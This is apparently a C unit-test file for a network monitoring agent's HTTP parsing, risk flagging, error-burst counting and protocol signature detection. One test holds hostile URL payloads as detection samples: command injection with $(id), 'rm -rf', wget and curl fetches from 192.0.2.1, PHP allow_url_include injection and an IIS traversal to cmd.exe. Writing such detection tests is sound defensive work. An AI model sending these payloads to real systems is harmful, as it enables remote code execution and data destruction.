/* Unit tests of agent/decode/http, and agent/dpi's risks, bursts and signatures of our own. */
#include "agent/dpi/risks.h"
#include "agent/decode/http.h"
#include "agent/dpi/bursts.h"
#include "agent/dpi/signatures.h"
#include "common/alert_kinds.h"
#include "common/clock.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>
#include <stdio.h>
#include <string.h>

#define RISK(kind) (1ull << (kind))

static bool head_of(const char *text, struct http_head *h)
{
    return http_head_read((const uint8_t *)text, strlen(text), h);
}

static void expect_text(const struct http_text *text, const char *want)
{
    assert_int_equal(text->len, strlen(want));
    assert_memory_equal(text->at, want, text->len);
}

/* ---- heads ---- */

static void a_request_is_read(void **state)
{
    (void)state;
    struct http_head h;
    assert_true(head_of("POST /a?b=c HTTP/1.1\r\nhost: x\r\nUSER-AGENT:  curl/8\r\n\r\nbody", &h));
    assert_true(h.asks);
    expect_text(&h.target, "/a?b=c");
    expect_text(&h.user_agent, "curl/8");
    expect_text(&h.body, "body");
}

static void an_answer_is_read(void **state)
{
    (void)state;
    struct http_head h;
    assert_true(head_of("HTTP/1.1 404 Not Found\r\nServer: nginx/1.2\r\n\r\n", &h));
    assert_false(h.asks);
    assert_int_equal(h.status, 404);
    expect_text(&h.server, "nginx/1.2");
    assert_int_equal(h.body.len, 0);
}

static void what_is_cut_off_is_not_there(void **state)
{
    (void)state;
    struct http_head h;
    assert_true(head_of("GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: cur", &h));
    assert_null(h.user_agent.at);
    assert_null(h.body.at);
}

static void other_bytes_are_no_message(void **state)
{
    (void)state;
    static const char *const texts[] = {"",
                                        "GET",
                                        "GET / HTTP/1.1",
                                        "get / HTTP/1.1\r\n",
                                        "GET  HTTP/1.1\r\n",
                                        "HTTP/1.1",
                                        "HTTP/1.1 2\r\n",
                                        "HTTP/1.1 2x0 OK\r\n",
                                        "HTTP/1.1 999 OK\r\n",
                                        "SSH-2.0-OpenSSH\r\n",
                                        "GET / SIP/2.0\r\n"};
    struct http_head h;
    for (size_t i = 0; i < sizeof texts / sizeof texts[0]; i++) {
        assert_false(head_of(texts[i], &h));
    }
}

/* ---- risks ---- */

static uint64_t risks_of_target(const char *target)
{
    struct http_head h = {.asks = true,
                          .target = {.at = (const uint8_t *)target, .len = strlen(target)}};
    return risks_of_http(&h);
}

static void commands_in_a_target_are_found_behind_percent_signs(void **state)
{
    (void)state;
    static const char *const bad[] = {
        "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)",
        "/shell?cd+/tmp;rm+-rf+*",
        "/?x=%3Bwget%20http://192.0.2.1/a",
        "/a?b=|curl+192.0.2.1",
        "/index.php?-d+allow_url_include%3don",
        "/?q=<?php%20phpinfo();",
        "/x?c=eval(1)",
        "/scripts/..%5c../winnt/system32/CMD.EXE?/c+dir"};
    static const char *const good[] = {
        "/", "/search?q=wget+and+curl", "/?q=retrieval(2)", "/docs/ecosystem(1)", "/%", "/%zz%4"};
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        assert_int_equal(risks_of_target(bad[i]), RISK(ALERT_NDPI_URL_POSSIBLE_RCE_INJECTION));
    }
    for (size_t i = 0; i < sizeof good / sizeof good[0]; i++) {
        assert_int_equal(risks_of_target(good[i]), 0);
    }
}

static uint64_t risks_of_agent(const char *name)
{
    struct http_head h = {.asks = true,
                          .user_agent = {.at = (const uint8_t *)name, .len = strlen(name)}};
    return risks_of_http(&h);
}

static void crawlers_and_scanners_are_known_by_their_names(void **state)
{
    (void)state;
    assert_int_equal(risks_of_agent("Mozilla/5.0 (compatible; Googlebot/2.1)"),
                     RISK(ALERT_HTTP_CRAWLER_BOT));
    assert_int_equal(risks_of_agent("sqlmap/1.7"), RISK(ALERT_HTTP_CRAWLER_BOT));
    assert_int_equal(risks_of_agent("Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"), 0);
    assert_int_equal(risks_of_agent("curl/7.88.1"), 0);
}

static uint64_t risks_of_server(const char *name)
{
    struct http_head h = {.status = 200,
                          .server = {.at = (const uint8_t *)name, .len = strlen(name)}};
    return risks_of_http(&h);
}

static void servers_older_than_what_is_kept_up_are_obsolete(void **state)
{
    (void)state;
    static const char *const old[] = {"Apache/2.2.15 (CentOS)", "nginx/1.14.0", "Microsoft-IIS/8.5",
                                      "Apache/2.4.57 (Unix) PHP/5.6.40", "Apache-Coyote/1.1"};
    static const char *const fine[] = {"Apache/2.4.57 (Debian)",
                                       "nginx/1.22.1",
                                       "nginx",
                                       "Microsoft-IIS/10.0",
                                       "Apache",
                                       "cloudflare",
                                       "nginx/"};
    for (size_t i = 0; i < sizeof old / sizeof old[0]; i++) {
        assert_int_equal(risks_of_server(old[i]), RISK(ALERT_HTTP_OBSOLETE_SERVER));
    }
    for (size_t i = 0; i < sizeof fine / sizeof fine[0]; i++) {
        assert_int_equal(risks_of_server(fine[i]), 0);
    }
}

static void programs_are_known_by_their_headers(void **state)
{
    (void)state;
    uint8_t pe[256] = {'M', 'Z', [60] = 128, [128] = 'P', [129] = 'E'};
    const uint64_t program = RISK(ALERT_BINARY_DATA_TRANSFER);
    assert_int_equal(risks_of_content(pe, sizeof pe), program);
    assert_int_equal(risks_of_content(pe, 100), program); /* its second header comes later */
    pe[128] = 'x';
    assert_int_equal(risks_of_content(pe, sizeof pe), 0);
    assert_int_equal(risks_of_content(pe, 10), 0);
    assert_int_equal(risks_of_content((const uint8_t *)"\177ELF\2\1\1\0", 8), program);
    assert_int_equal(risks_of_content((const uint8_t *)"\0\3\0\1\177ELF\1\1\1\0", 12), program);
    assert_int_equal(risks_of_content((const uint8_t *)"\177ELF\3\1\1\0", 8), 0);
    assert_int_equal(risks_of_content(NULL, 0), 0);
}

static void names_in_other_scripts_are_told(void **state)
{
    (void)state;
    assert_int_equal(risks_of_name("xn--pple-43d.com"), RISK(ALERT_PUNYCODE_IDN));
    assert_int_equal(risks_of_name("www.XN--pple-43d.com"), RISK(ALERT_PUNYCODE_IDN));
    assert_int_equal(risks_of_name("www.example.com"), 0);
    assert_int_equal(risks_of_name("axn--b.com"), 0);
    assert_int_equal(risks_of_name(""), 0);
}

static void the_library_s_risks_are_those_that_have_our_numbers(void **state)
{
    (void)state;
    assert_int_equal(risks_of_library(RISK(1) | RISK(41)), RISK(1) | RISK(41));
    assert_int_equal(risks_of_library(RISK(42) | RISK(46) | RISK(63)), 0);
}

/* ---- bursts ---- */

static bool note(struct bursts *b, uint8_t client, bool error, uint64_t at_s)
{
    struct flow_key key = {.family = ADDR_IPV4};
    key.client.bytes[0] = client;
    return bursts_note(b, &key, error, at_s * NS_PER_S);
}

static void twenty_errors_of_a_minute_are_a_burst(void **state)
{
    (void)state;
    static struct bursts b;
    for (uint64_t i = 0; i < 19; i++) {
        assert_false(note(&b, 1, true, 100 + i));
    }
    assert_false(note(&b, 2, true, 119));
    assert_false(note(&b, 1, false, 119));
    assert_true(note(&b, 1, true, 120));
    assert_false(note(&b, 1, true, 161)); /* the next minute */
}

static void errors_among_many_good_answers_are_none(void **state)
{
    (void)state;
    static struct bursts b;
    for (uint64_t i = 0; i < 100; i++) {
        assert_false(note(&b, 1, i % 3 == 0, 100 + i / 10));
    }
}

/* ---- signatures ---- */

static const char *name_of(uint8_t protocol, uint16_t port, const void *bytes, size_t len)
{
    struct packet p = {.payload = bytes, .payload_len = (uint32_t)len};
    p.ends.protocol = protocol;
    p.ends.src_port = 50000;
    p.ends.dst_port = port;
    const struct signature *s = signature_at(signature_of(&p));
    return s == NULL ? "" : s->protocol;
}
#define NAME_OF(protocol, port, text) name_of(protocol, port, text, sizeof(text) - 1)

static void protocols_are_known_by_the_form_of_their_messages(void **state)
{
    (void)state;
    static const char dns[] = "\0\7\1\0\0\1\0\0\0\0\0\0\3www\7example\3org\0\0\1\0\1";
    static const char dns_tcp[] = "\0\42\0\7\1\0\0\1\0\0\0\0\0\0\3www\7example\4home\0\0\34\0\1";
    char discord[74] = {0, 1, 0, 70};
    assert_string_equal(NAME_OF(PROTO_UDP, 5300, dns), "DNS");
    assert_string_equal(NAME_OF(PROTO_TCP, 5300, dns_tcp), "DNS");
    assert_string_equal(NAME_OF(PROTO_UDP, 427, "\2\1\0\0\20\0\0\0\0\0\0\1\0\2en"),
                        "Service_Location_Protocol");
    assert_string_equal(NAME_OF(PROTO_UDP, 47808, "\x81\x0b\0\x08\1\x20\xff\xff"), "BACnet");
    assert_string_equal(NAME_OF(PROTO_TCP, 9092, "\0\0\0\21\0\22\0\3\0\0\0\1\0\7rdkafka"), "Kafka");
    assert_string_equal(NAME_OF(PROTO_TCP, 10051, "ZBXD\1\2\0\0\0\0\0\0\0{}"), "Zabbix");
    assert_string_equal(name_of(PROTO_UDP, 50010, discord, sizeof discord), "Discord");
    assert_string_equal(NAME_OF(PROTO_UDP, 19132,
                                "\5\0\377\377\0\376\376\376\376\375\375\375\375\x12\x34\x56\x78\6"),
                        "RakNet");
    assert_string_equal(
        NAME_OF(PROTO_UDP, 6667,
                "\0\0\x55\xaa\0\0\0\0\0\0\0\0\0\0\0\x0c\0\0\0\0\0\0\0\0\0\0\xaa\x55"),
        "TuyaLP");
    assert_string_equal(NAME_OF(PROTO_UDP, 9999, "\xd0\xf2\x81\xf8"), "TPLINK_SHP");
}

static void what_almost_fits_does_not(void **state)
{
    (void)state;
    static const char two_questions[] = "\0\7\1\0\0\2\0\0\0\0\0\0\3www\7example\3org\0\0\1\0\1";
    static const char tail[] = "\0\7\1\0\0\1\0\0\0\0\0\0\3www\7example\3org\0\0\1\0\1x";
    assert_string_equal(NAME_OF(PROTO_UDP, 5300, two_questions), "");
    assert_string_equal(NAME_OF(PROTO_UDP, 5300, tail), "");
    assert_string_equal(NAME_OF(PROTO_UDP, 428, "\2\1\0\0\20\0\0\0\0\0\0\1\0\2en"), "");
    assert_string_equal(NAME_OF(PROTO_UDP, 427, "\2\1\0\0\21\0\0\0\0\0\0\1\0\2en"), "");
    assert_string_equal(NAME_OF(PROTO_UDP, 47808, "\x81\x0b\0\x09\1\x20\xff\xff"), "");
    assert_string_equal(NAME_OF(PROTO_TCP, 9092, "\0\0\0\21\0\22\0\3\0\0\0\1\0\7rdk\0fka"), "");
    assert_string_equal(NAME_OF(PROTO_UDP, 1, ""), "");
    assert_null(signature_at(0));
    assert_null(signature_at(255));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_request_is_read),
        cmocka_unit_test(an_answer_is_read),
        cmocka_unit_test(what_is_cut_off_is_not_there),
        cmocka_unit_test(other_bytes_are_no_message),
        cmocka_unit_test(commands_in_a_target_are_found_behind_percent_signs),
        cmocka_unit_test(crawlers_and_scanners_are_known_by_their_names),
        cmocka_unit_test(servers_older_than_what_is_kept_up_are_obsolete),
        cmocka_unit_test(programs_are_known_by_their_headers),
        cmocka_unit_test(names_in_other_scripts_are_told),
        cmocka_unit_test(the_library_s_risks_are_those_that_have_our_numbers),
        cmocka_unit_test(twenty_errors_of_a_minute_are_a_burst),
        cmocka_unit_test(errors_among_many_good_answers_are_none),
        cmocka_unit_test(protocols_are_known_by_the_form_of_their_messages),
        cmocka_unit_test(what_almost_fits_does_not),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
